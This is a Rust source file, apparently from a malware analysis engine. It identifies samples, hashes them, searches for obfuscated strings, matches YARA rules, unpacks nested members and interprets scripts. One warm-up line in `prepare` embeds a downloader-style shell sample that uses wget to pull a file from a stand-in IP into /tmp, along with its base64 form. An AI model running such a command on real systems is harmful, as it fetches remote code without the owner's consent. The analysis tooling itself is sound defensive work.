//! One analysis, stage by stage: what is cheap and matters most comes first.

use crate::artefacts::Artefacts;
use crate::kind::{self, Kind, Language};
use crate::limits::{
    ACTS_BYTES_MAX, ACTS_MAX, ARTEFACT_BYTES_MAX, CONFIGURATIONS_MAX, Limits, NOTES_MAX,
    PROGRAMS_MAX, SCRIPTS_RUN_MAX, SCRIPTS_WAITING_MAX, YARA_MATCHES_MAX,
};
use crate::observables::{
    Finds, Source, certificates, runs, scan_text, search_base64, search_hex, search_stack,
    search_xor, search_xor_long,
};
use crate::passwords::Passwords;
use crate::script::Product;
use crate::unpack::{Budget, Child, PDF_SCRIPT, Unpacking};
use crate::{
    ENGINE, ENGINE_VERSION, Stage, android, config, elf, functions, hashes, mach, pe, script,
    strings, unpack,
};
use std::collections::{HashMap, HashSet, VecDeque};
use ukai_model::{
    Analysis, AndroidInfo, ArtefactKind, DexInfo, MachInfo, Member, Outcome, ScriptAct, ScriptStep,
    Sha256, StringEncoding, Timestamp, YaraMatch,
};
use ukai_script::Dialect;
use ukai_yara::Rules;

/// Analyses `bytes`. `emit` is called after each stage with the result so far, so that a
/// caller that is killed leaves something behind. `now` becomes the time of the start;
/// how long it took is for the caller to fill in.
pub fn analyze(
    bytes: &[u8],
    now: Timestamp,
    limits: &Limits,
    emit: &mut dyn FnMut(Stage<'_>),
) -> Analysis {
    analyze_with(bytes, now, limits, None, emit)
}

/// The same, and YARA rules look at the sample and at all that is inside of it.
pub fn analyze_with(
    bytes: &[u8],
    now: Timestamp,
    limits: &Limits,
    rules: Option<&Rules>,
    emit: &mut dyn FnMut(Stage<'_>),
) -> Analysis {
    let mut work = Work::new(bytes, now, limits, rules);
    let stages = stages();
    for (index, (name, stage)) in stages.iter().enumerate() {
        let before = work.amounts();
        stage(&mut work);
        work.publish(Some(stages.get(index + 1).map_or("members", |(next, _)| *next)));
        let news = work.amounts() != before;
        emit(Stage { name, news, so_far: &work.analysis });
    }
    // Members one after the other. What is known is handed out after the first, second,
    // fourth, eighth ..., so that one that crashes the parser takes little with it. Scripts are run
    // when all else was looked at, since they may take their interpreter with them.
    let mut done = 0usize;
    let mut told = work.amounts();
    loop {
        while work.next_member() {
            done += 1;
            if done.is_power_of_two() && !work.pending.is_empty() {
                work.publish(Some("members"));
                emit(Stage { name: "member", news: true, so_far: &work.analysis });
                told = work.amounts();
            }
        }
        if work.waiting.is_empty() {
            break;
        }
        let before = work.amounts();
        work.publish(Some("script"));
        emit(Stage { name: "script", news: before != told, so_far: &work.analysis });
        told = before;
        work.next_script();
    }
    work.finds.forget_pieces();
    work.publish(None);
    emit(Stage { name: "members", news: true, so_far: &work.analysis });
    work.analysis
}

/// Makes all tables that are otherwise made at their first use: for a process that forks, so
/// that its children find them there.
pub fn prepare(rules: Option<&Rules>) {
    config::prepare();
    unpack::prepare();
    let text = b"#!/bin/sh\nwget http://192.0.2.1/a -O /tmp/a; echo aHR0cDovLzE5Mi4wLjIuMS9h\n";
    for first in [text.as_slice(), &program()] {
        analyze_with(first, Timestamp::default(), &Limits::default(), rules, &mut |_| ());
    }
}

/// The smallest program for x86-64 that has functions: they return zero.
fn program() -> Vec<u8> {
    const FUNCTION: &[u8] = b"\x55\x48\x89\xe5\x31\xc0\x89\x45\xfc\x8b\x45\xfc\x5d\xc3\x66\x90";
    const HEADERS: u64 = 64 + 56;
    const ADDRESS: u64 = 0x40_0000;
    let code = FUNCTION.repeat(16);
    let size = HEADERS + code.len() as u64;
    let mut file = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
    for number in [ADDRESS + HEADERS, 64, 0] {
        file.extend(number.to_le_bytes());
    }
    file.extend(b"\0\0\0\0\x40\0\x38\0\x01\0\0\0\0\0\0\0");
    // One segment that is read and run: the whole file.
    file.extend(b"\x01\0\0\0\x05\0\0\0");
    for number in [0, ADDRESS, ADDRESS, size, size, 0x1000] {
        file.extend(number.to_le_bytes());
    }
    file.extend(code);
    file
}

/// The bytes of one of the members that an analysis lists; none if there is no such.
pub(crate) fn layer(bytes: &[u8], number: u32, now: Timestamp, limits: &Limits) -> Option<Vec<u8>> {
    let mut work = Work::new(bytes, now, limits, None);
    work.wanted = Some(number);
    for (_, stage) in stages() {
        stage(&mut work);
    }
    while work.taken.is_none() && (work.next_member() || work.next_script()) {}
    work.taken
}

type StageWork<'a> = fn(&mut Work<'a>);

/// The stages in their order; the members come after them.
fn stages<'a>() -> [(&'static str, StageWork<'a>); 8] {
    [
        ("type", Work::identify),
        ("hashes", Work::hash),
        ("strings", Work::scan),
        ("xor", Work::search_xor),
        ("base64", Work::search_base64),
        ("configuration", Work::configure),
        ("yara", Work::match_rules),
        ("unpacking", Work::unpack),
    ]
}

fn empty(bytes: &[u8], now: Timestamp) -> Analysis {
    Analysis {
        sha256: Sha256::of(bytes),
        engine: ENGINE.to_owned(),
        engine_version: ENGINE_VERSION,
        started: now,
        duration_ms: 0,
        outcome: Outcome::Partial { reason: "during type".to_owned() },
        size: bytes.len() as u64,
        file_type: None,
        hashes: None,
        elf: None,
        pe: None,
        mach: Vec::new(),
        dex: Vec::new(),
        android: Vec::new(),
        entropy: 0.0,
        members: Vec::new(),
        configurations: Vec::new(),
        artefacts: Vec::new(),
        yara: Vec::new(),
        observables: Vec::new(),
        strings: Vec::new(),
        commands: Vec::new(),
        acts: Vec::new(),
        notes: Vec::new(),
    }
}

/// A member that waits to be looked at.
struct Pending {
    child: Child,
    parent: Option<u32>,
    depth: u32,
}

/// A script that waits to be run.
struct Waiting {
    kind: Kind,
    bytes: Vec<u8>,
    layer: Option<u32>,
    depth: u32,
}

struct Work<'a> {
    bytes: &'a [u8],
    now: Timestamp,
    limits: &'a Limits,
    rules: Option<&'a Rules>,
    finds: Finds,
    artefacts: Artefacts,
    kind: Option<Kind>,
    /// Scripts that were run.
    scripts: usize,
    /// Texts that an interpreter ran as part of another script.
    ran: HashSet<Sha256>,
    /// Languages of texts, as those who made them said.
    dialects: HashMap<Sha256, Dialect>,
    /// Length of what is told of scripts' acts, in bytes.
    acts_bytes: usize,
    passwords: Passwords,
    budget: Budget,
    pending: VecDeque<Pending>,
    waiting: VecDeque<Waiting>,
    /// Contents that were looked at already.
    seen: HashSet<Sha256>,
    analysis: Analysis,
    /// The member whose bytes are kept, and those.
    wanted: Option<u32>,
    taken: Option<Vec<u8>>,
}

impl<'a> Work<'a> {
    fn new(bytes: &'a [u8], now: Timestamp, limits: &'a Limits, rules: Option<&'a Rules>) -> Self {
        Self {
            bytes,
            now,
            limits,
            rules,
            finds: Finds::new(limits.observables),
            artefacts: Artefacts::default(),
            kind: None,
            scripts: 0,
            ran: HashSet::new(),
            dialects: HashMap::new(),
            acts_bytes: 0,
            passwords: Passwords::new(),
            budget: Budget { members: limits.members, bytes: limits.unpacked_bytes },
            pending: VecDeque::new(),
            waiting: VecDeque::new(),
            seen: HashSet::new(),
            analysis: empty(bytes, now),
            wanted: None,
            taken: None,
        }
    }
}

impl Work<'_> {
    /// How much is known: nothing is ever taken back.
    fn amounts(&self) -> [usize; 10] {
        let known = &self.analysis;
        let about = [
            known.file_type.is_some(),
            known.hashes.is_some(),
            known.elf.is_some() || known.pe.is_some() || !known.mach.is_empty(),
        ];
        [
            about.into_iter().filter(|it| *it).count(),
            known.strings.len(),
            known.commands.len(),
            known.acts.len(),
            known.configurations.len(),
            known.yara.len(),
            known.members.len(),
            known.notes.len(),
            self.finds.list.len(),
            self.artefacts.list.len(),
        ]
    }

    /// Puts what is known into the result; `next` is what is still to be done.
    fn publish(&mut self, next: Option<&str>) {
        self.analysis.observables.clone_from(&self.finds.list);
        self.analysis.artefacts.clone_from(&self.artefacts.list);
        self.analysis.outcome = match next {
            Some(next) => Outcome::Partial { reason: format!("during {next}") },
            None => Outcome::Complete,
        };
        if next.is_none() && self.finds.overflown {
            self.note(format!("only the first {} observables are kept", self.limits.observables));
        }
    }

    /// The beginning of a file that a stage may look at.
    fn head<'b>(&mut self, bytes: &'b [u8], max: usize, what: &str) -> &'b [u8] {
        if bytes.len() > max {
            self.note(format!("{what} were searched in the first {max} bytes only"));
        }
        &bytes[..bytes.len().min(max)]
    }

    fn note(&mut self, note: String) {
        if self.analysis.notes.len() < NOTES_MAX {
            self.analysis.notes.push(note);
        }
    }

    fn language(&self) -> Option<Language> {
        self.kind.as_ref().and_then(|kind| kind.language)
    }

    fn identify(&mut self) {
        let elf = elf::read(self.bytes);
        let kind = kind::identify(self.bytes, elf.as_ref());
        self.analysis.file_type = Some(kind.file_type.clone());
        if kind.file_type.name == "pe" {
            self.analysis.pe = pe::read(self.bytes);
        }
        self.read_others(self.bytes, &kind, None);
        self.kind = Some(kind);
        if let Some(elf) = elf {
            elf.notes.into_iter().for_each(|note| self.note(note));
            self.analysis.elf = Some(elf.info);
        }
    }

    /// Headers of Apple's and Android's programs.
    fn read_others(&mut self, bytes: &[u8], kind: &Kind, layer: Option<u32>) {
        let known = &mut self.analysis;
        match kind.file_type.name.as_str() {
            "mach-o" => {
                let room = PROGRAMS_MAX.saturating_sub(known.mach.len());
                let found = mach::read(bytes).into_iter().take(room);
                known.mach.extend(found.map(|info| MachInfo { layer, ..info }));
            }
            "dex" if known.dex.len() < PROGRAMS_MAX => {
                let found = android::dex(bytes);
                known.dex.extend(found.map(|info| DexInfo { layer, ..info }));
            }
            _ if known.android.len() < PROGRAMS_MAX => {
                let found = android::manifest(bytes);
                known.android.extend(found.map(|info| AndroidInfo { layer, ..info }));
            }
            _ => {}
        }
    }

    fn hash(&mut self) {
        let sha256 = self.analysis.sha256.to_string();
        let mut hashes = hashes::all(self.bytes, &sha256, self.limits.weak_digests);
        hashes.functions = match (&self.analysis.elf, &self.analysis.pe) {
            (Some(elf), _) => functions::of_elf(self.bytes, elf),
            (None, Some(pe)) => functions::of_pe(self.bytes, pe),
            (None, None) => None,
        };
        self.analysis.hashes = Some(hashes);
        self.analysis.entropy = hashes::entropy(self.bytes);
        self.seen.insert(self.analysis.sha256);
    }

    fn scan(&mut self) {
        let head = self.head(self.bytes, self.limits.scan_bytes, "strings");
        let mut kept = strings::Kept::new(self.limits);
        let language = self.language();
        scan_runs(head, language, &mut self.finds, &mut |text, source| {
            kept.offer(text);
            self.artefacts.scan(text, source);
        });
        if kept.overflown {
            self.note(format!("only the first {} strings are kept", self.limits.strings));
        }
        self.analysis.strings = kept.list;
        if language.is_some() {
            self.passwords.learn(self.bytes);
        }
    }

    fn search_xor(&mut self) {
        let head = self.head(self.bytes, self.limits.xor_bytes, "XORed strings");
        for key in search_xor(head, &mut self.finds) {
            self.note(format!("strings are XORed with {key:#04x}"));
        }
        for key in search_xor_long(head, &mut self.finds) {
            self.note(format!("strings are XORed with 0x{key}"));
        }
    }

    fn search_base64(&mut self) {
        let head = self.head(self.bytes, self.limits.scan_bytes, "base64 texts");
        search_base64(head, self.language(), &mut self.finds);
        search_hex(head, self.language(), &mut self.finds);
        let processor = self.analysis.elf.as_ref().map(|it| &it.machine);
        let processor = processor.or(self.analysis.pe.as_ref().map(|it| &it.machine));
        if processor.is_some_and(|it| it.starts_with("x86")) {
            search_stack(head, &mut self.finds);
        }
    }

    fn configure(&mut self) {
        if let Some(elf) = &self.analysis.elf {
            let found = config::extract(self.bytes, elf, None, &mut self.finds);
            self.analysis.configurations = found;
        }
    }

    /// Has a script run after all else, if it is one.
    fn interpret(&mut self, kind: &Kind, bytes: &[u8], layer: Option<u32>, depth: u32) {
        // Most files are no scripts, and cost no digest.
        if self.dialects.is_empty() && !script::can_run(kind, None) {
            return;
        }
        let sha256 = Sha256::of(bytes);
        if !script::can_run(kind, self.dialects.get(&sha256).copied()) {
            return;
        }
        if self.waiting.len() >= SCRIPTS_WAITING_MAX {
            self.note(format!("only the first {SCRIPTS_RUN_MAX} scripts were run"));
            return;
        }
        self.waiting.push_back(Waiting { kind: kind.clone(), bytes: bytes.to_vec(), layer, depth });
    }

    /// Runs the script that waits longest; false if none does.
    fn next_script(&mut self) -> bool {
        let Some(Waiting { kind, bytes, layer, depth }) = self.waiting.pop_front() else {
            return false;
        };
        self.finds.layer = layer;
        self.artefacts.layer = layer;
        self.run_script(&kind, &bytes, layer, depth);
        self.finds.layer = None;
        self.artefacts.layer = None;
        true
    }

    /// Runs a script; what it makes is looked at as members.
    fn run_script(&mut self, kind: &Kind, bytes: &[u8], layer: Option<u32>, depth: u32) {
        let sha256 = Sha256::of(bytes);
        let dialect = self.dialects.get(&sha256).copied();
        if !script::can_run(kind, dialect) || self.ran.contains(&sha256) {
            return;
        }
        if self.scripts >= SCRIPTS_RUN_MAX {
            self.note(format!("only the first {SCRIPTS_RUN_MAX} scripts were run"));
            return;
        }
        self.scripts += 1;
        let report = script::run(kind, dialect, bytes, self.now, self.limits);
        report.scan(&mut self.finds);
        self.finds.mark_pieces(name_of(kind, dialect), bytes);
        for text in &report.beside {
            self.finds.rule_out(text.as_bytes());
        }
        self.finds.forget_pieces();
        report.notes.into_iter().for_each(|note| self.note(note));
        for product in report.made {
            // What programs say of how they fetch is no file of the sample's.
            if !script::is_log(&product) {
                self.keep(product, layer, depth);
            }
        }
        if self.analysis.commands.is_empty() {
            self.analysis.commands = report.commands;
        }
        self.tell(report.acts, layer);
    }

    /// Looks at what a script made as at a member.
    fn keep(&mut self, product: Product, layer: Option<u32>, depth: u32) {
        let sha256 = Sha256::of(&product.bytes);
        if product.ran {
            self.ran.insert(sha256);
        }
        if let Some(dialect) = product.dialect {
            self.dialects.insert(sha256, dialect);
        }
        let child = Child {
            name: Some(product.name),
            container: "script",
            bytes: product.bytes.to_vec(),
            password: None,
        };
        self.push(child, layer, depth);
    }

    /// Keeps acts of a script, as far as there is room.
    fn tell(&mut self, acts: Vec<ScriptAct>, layer: Option<u32>) {
        for act in acts {
            let mut act = script::shortened(act);
            self.acts_bytes += script::length(&mut act);
            let told = &mut self.analysis.acts;
            if told.len() >= ACTS_MAX || self.acts_bytes > ACTS_BYTES_MAX {
                let told = told.len();
                return self.note(format!("only the first {told} acts of scripts are kept"));
            }
            told.push(ScriptStep { layer, act });
        }
    }

    fn match_rules(&mut self) {
        self.match_layer(self.bytes, None);
    }

    fn match_layer(&mut self, bytes: &[u8], layer: Option<u32>) {
        let Some(rules) = self.rules else { return };
        let scanned = rules.scan(&bytes[..bytes.len().min(self.limits.scan_bytes)]);
        scanned.notes.into_iter().for_each(|note| self.note(note));
        let found = &mut self.analysis.yara;
        let room = YARA_MATCHES_MAX.saturating_sub(found.len());
        let overflown = scanned.matches.len() > room;
        let matches = scanned.matches.into_iter().take(room);
        found.extend(matches.map(|found| YaraMatch { layer, ..found }));
        if overflown {
            self.note(format!("only the first {YARA_MATCHES_MAX} matches of YARA rules are kept"));
        }
    }

    fn unpack(&mut self) {
        let Some(kind) = self.kind.take() else { return };
        self.interpret(&kind, self.bytes, None, 1);
        self.take_apart(&kind, self.bytes, None, 1);
        self.kind = Some(kind);
    }

    fn take_apart(&mut self, kind: &Kind, bytes: &[u8], layer: Option<u32>, depth: u32) {
        if depth as usize > self.limits.depth {
            self.note(format!("nothing below {} layers was looked at", self.limits.depth));
            return;
        }
        let mut unpacking = Unpacking::new(self.limits, &mut self.budget, self.passwords.list());
        unpacking.take_apart(kind, bytes);
        let Unpacking { children, told, notes, .. } = unpacking;
        for told in told {
            let line = (told.kind == ArtefactKind::Command).then_some(&told.value);
            // What was cut would say something else; what is a member is looked at as one.
            let line = line.filter(|line| line.len() < ARTEFACT_BYTES_MAX);
            let line = line.filter(|line| children.iter().all(|child| child.bytes != **line));
            if let Some(product) = line.and_then(|line| script::carried(line)) {
                self.keep(product, layer, depth);
            }
            self.artefacts.tell(&told);
        }
        for note in notes {
            self.note(note);
        }
        self.run_modules(&children, kind, layer, depth);
        for child in children {
            if matches!(child.container, "lnk" | "dde")
                && let Some(product) = script::carried(&child.bytes)
            {
                self.ran.insert(Sha256::of(&child.bytes));
                self.keep(product, layer, depth);
            }
            if child.container == PDF_SCRIPT {
                self.dialects.insert(Sha256::of(&child.bytes), Dialect::JavaScript);
            }
            // The texts beside an archive tell its password.
            if child.bytes.len() < 1 << 16 && kind::is_text(&child.bytes) {
                self.passwords.learn(&child.bytes);
            }
            self.push(child, layer, depth);
        }
    }

    /// Runs the modules of one document together, since they call each other.
    fn run_modules(&mut self, children: &[Child], kind: &Kind, layer: Option<u32>, depth: u32) {
        let modules: Vec<&[u8]> = children
            .iter()
            .filter(|child| child.container == "vba")
            .map(|child| child.bytes.as_slice())
            .collect();
        if modules.len() < 2 {
            return;
        }
        self.ran.extend(modules.iter().map(|module| Sha256::of(module)));
        let together = modules.join(&b"\r\n"[..]);
        self.dialects.insert(Sha256::of(&together), Dialect::VbScript);
        self.interpret(kind, &together, layer, depth);
    }

    fn push(&mut self, child: Child, parent: Option<u32>, depth: u32) {
        if self.pending.len() < self.limits.members {
            self.pending.push_back(Pending { child, parent, depth });
        }
    }

    /// Looks at the next member; false if none waits.
    fn next_member(&mut self) -> bool {
        let Some(Pending { child, parent, depth }) = self.pending.pop_front() else {
            return false;
        };
        if self.analysis.members.len() >= self.limits.members {
            return false;
        }
        let bytes = child.bytes.as_slice();
        let sha256 = Sha256::of(bytes);
        let elf = elf::read(bytes);
        let kind = kind::identify(bytes, elf.as_ref());
        let layer = self.analysis.members.len() as u32;
        if self.wanted == Some(layer) {
            self.taken = Some(bytes.to_vec());
        }
        self.analysis.members.push(Member {
            parent,
            depth,
            container: child.container.to_owned(),
            name: child.name,
            size: bytes.len() as u64,
            sha256,
            file_type: kind.file_type.clone(),
            entropy: hashes::entropy(bytes),
            password: child.password,
            elf: elf.map(|elf| elf.info),
            pe: (kind.file_type.name == "pe").then(|| pe::read(bytes)).flatten(),
        });
        if self.seen.insert(sha256) {
            self.read_others(bytes, &kind, Some(layer));
            self.finds.layer = Some(layer);
            self.artefacts.layer = Some(layer);
            self.look(bytes, &kind, layer, depth);
            self.finds.layer = None;
            self.artefacts.layer = None;
        }
        true
    }

    /// All that is done to a member.
    fn look(&mut self, bytes: &[u8], kind: &Kind, layer: u32, depth: u32) {
        let head = self.head(bytes, self.limits.scan_bytes, "members");
        scan_runs(head, kind.language, &mut self.finds, &mut |text, source| {
            self.artefacts.scan(text, source);
        });
        for key in search_xor(head, &mut self.finds) {
            self.note(format!("strings of member {layer} are XORed with {key:#04x}"));
        }
        for key in search_xor_long(head, &mut self.finds) {
            self.note(format!("strings of member {layer} are XORed with 0x{key}"));
        }
        search_base64(head, kind.language, &mut self.finds);
        search_hex(head, kind.language, &mut self.finds);
        let elf = self.analysis.members.get(layer as usize).and_then(|it| it.elf.as_ref());
        if let Some(elf) = elf
            && self.analysis.configurations.len() < CONFIGURATIONS_MAX
        {
            if elf.machine.starts_with("x86") {
                search_stack(head, &mut self.finds);
            }
            let found = config::extract(bytes, elf, Some(layer), &mut self.finds);
            self.analysis.configurations.extend(found);
        }
        self.interpret(kind, bytes, Some(layer), depth + 1);
        let dialect = self.dialects.get(&Sha256::of(bytes)).copied();
        if kind.language.is_some() || dialect.is_some() {
            self.finds.mark_pieces(name_of(kind, dialect), bytes);
        }
        self.match_layer(bytes, Some(layer));
        self.take_apart(kind, bytes, Some(layer), depth + 1);
    }
}

/// The short name of what a text is written in.
fn name_of(kind: &Kind, dialect: Option<Dialect>) -> &str {
    dialect.map_or(kind.file_type.name.as_str(), |it| it.name())
}

/// Observables in the printable runs of `bytes`.
fn scan_runs(
    bytes: &[u8],
    language: Option<Language>,
    finds: &mut Finds,
    each: &mut dyn FnMut(&[u8], &Source),
) {
    let has_certificates = certificates::may_be_in(bytes);
    // The name of a version in a program's resources, which stands before its value.
    let mut after_name = false;
    for run in runs(bytes) {
        let text = run.text(bytes);
        let is_version = after_name || run.is_attribute(bytes);
        after_name = run.wide && text.ends_with(b"Version");
        let mut source = Source::plain(run.at, language);
        if run.wide {
            source.encoding = StringEncoding::Utf16le;
            source.stride = 2;
        }
        each(&text, &source);
        let text = if has_certificates { certificates::without(bytes, &run, text) } else { text };
        if !(is_version && is_dotted(&text)) {
            scan_text(&text, &source, finds);
        }
    }
}

/// Whether a text has nothing but digits and dots in it.
fn is_dotted(text: &[u8]) -> bool {
    text.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b' ' | b'\t'))
}
